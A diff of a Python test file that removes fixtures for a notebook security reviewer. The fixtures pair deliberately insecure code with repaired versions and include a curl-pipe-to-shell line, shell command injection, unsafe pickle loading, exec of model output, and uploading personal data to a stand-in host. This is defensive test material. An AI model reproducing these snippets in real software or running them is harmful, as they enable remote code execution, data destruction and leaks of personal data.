@@ -196,56 +196,6 @@ def test_a_finding_reaches_its_card_and_its_checklist_item() -> None:
     )
 
 
-TWINS = {
-    "SUP-01": ("import pickle\npickle.load(open('m', 'rb'))", "from safetensors.torch import load_file\nload_file('m')"),
-    "SUP-02": (
-        "from transformers import AutoModel\nAutoModel.from_pretrained('o/n', trust_remote_code=True)",
-        "from transformers import AutoModel\nAutoModel.from_pretrained('o/n', trust_remote_code=False)",
-    ),
-    "SUP-03": (
-        "from transformers import AutoModel\nAutoModel.from_pretrained('o/n')",
-        f"from transformers import AutoModel\nAutoModel.from_pretrained('o/n', revision='{'4f8843d2aa' * 4}')",
-    ),
-    "SUP-05": ("!pip install git+https://github.com/o/p", "!pip install --require-hashes -r requirements.txt"),
-    "SUP-08": ("!curl https://a.invalid/i.sh | sh", "!sh ./i.sh"),
-    "SUP-10": (
-        "import tarfile\ntarfile.open('a.tar').extractall()",
-        "import tarfile\ntarfile.open('a.tar').extractall(filter='data')",
-    ),
-    "DAT-03": ("import requests\nrequests.get('https://a.invalid', verify=False)", "import requests\nrequests.get('https://a.invalid')"),
-    "EXE-01": ("import os\nos.system('rm ' + input())", "import ast\nast.literal_eval(input())"),
-    "EXE-02": (
-        "import uvicorn\nuvicorn.run(app, host='0.0.0.0')",
-        "import uvicorn\nuvicorn.run(app, host='127.0.0.1')",
-    ),
-    "SEC-01": ("db_password = 'Tr0ub4dor&3x'", "import os\ndb_password = os.environ.get('DB_PASSWORD')"),
-    "LLM-03": (
-        "import openai\nexec(openai.OpenAI().responses.create(model='m', input='x').output_text)",
-        "import openai\nprint(openai.OpenAI().responses.create(model='m', input='x').output_text)",
-    ),
-    "REL-06": (
-        "from sklearn.preprocessing import StandardScaler as S\nfrom sklearn.model_selection import train_test_split\n"
-        "s = S()\nX = s.fit_transform(X)\na, b = train_test_split(X)",
-        "from sklearn.pipeline import make_pipeline\nmake_pipeline(a, b)",
-    ),
-    "MOD-10": ("import torch\ntorch.save(m, 'm.pt')", "import model_signing"),
-    "PRV-04": (
-        "import pandas as pd, requests\np = pd.read_csv('p')\np['email']\nrequests.post('https://a.invalid', json=p.to_dict())",
-        "import pandas as pd, requests\np = pd.read_csv('p')\np['email']\nrequests.post('https://a.invalid', json=len(p))",
-    ),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("card", TWINS)
-def test_evidence_raises_a_card_and_its_repaired_twin_does_not(card: str) -> None:
-    bad, good = TWINS[card]
-    raised = {c.id: c for c in review(notebook(bad)).cards}[card]
-    repaired = {c.id: c for c in review(notebook(good)).cards}[card]
-    assert raised.state == "raised"
-    assert all(e.location and e.location.cell == 0 for e in raised.evidence)
-    assert repaired.state in ("quiet", "closed", "lowered")
-
-
 PEOPLE_READ = "import pandas as pd\np = pd.read_csv('p.csv')\np['email'].nunique()\n"
 SHOWN = code("people.head()", display(text_html=PEOPLE))
 PRINTED = code("print(p)", stream("sent to anna.berger@kontor-nord.de"))
